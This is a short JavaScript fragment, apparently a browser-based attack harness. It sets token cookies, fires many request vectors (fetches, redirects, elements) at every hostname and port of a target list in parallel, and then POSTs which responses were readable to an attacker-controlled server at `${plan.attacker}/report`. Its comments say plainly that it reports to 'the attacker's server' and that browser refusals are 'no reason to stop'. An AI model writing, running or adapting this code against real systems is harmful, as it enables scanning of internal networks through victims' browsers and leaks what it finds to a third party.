// Tries every vector on every name of every target, a few at a time, and tells the attacker's server when it is through.

async function attack() {
  for (const part of [`token=${plan.token}`, `authorization=Bearer ${plan.token}`]) document.cookie = `${part}; path=/`;
  const asked = ([path, options]) => [path, (url) => ask(url, typeof options === "function" ? options() : options)];
  const all = { ...Object.fromEntries(Object.entries(fetches).map(([name, it]) => [name, asked(it)])), ...redirects, ...elements, ...others };
  const waiting = Object.entries(all);
  const lane = async () => {
    for (let next = waiting.shift(); next; next = waiting.shift()) await everywhere(...next);
  };
  await Promise.all(Array.from({ length: plan.lanes }, lane));
  await pause(plan.silence_ms);
  const report = JSON.stringify({ vectors: Object.keys(all), readable });
  await fetch(`${plan.attacker}/report`, { method: "POST", mode: "no-cors", body: report });
}

async function everywhere(vector, [path, go]) {
  const attempts = plan.targets.flatMap(({ port, names }) => names.map(async (name) => {
    const url = `http://${name}:${port}${path}?vector=${encodeURIComponent(`${vector}@${name}`)}`;
    // What this browser refuses by itself is no defence of the target, and no reason to stop.
    await Promise.race([(async () => go(url))().catch(() => {}), pause(plan.patience_ms)]);
  }));
  await Promise.all(attempts);
}

attack();
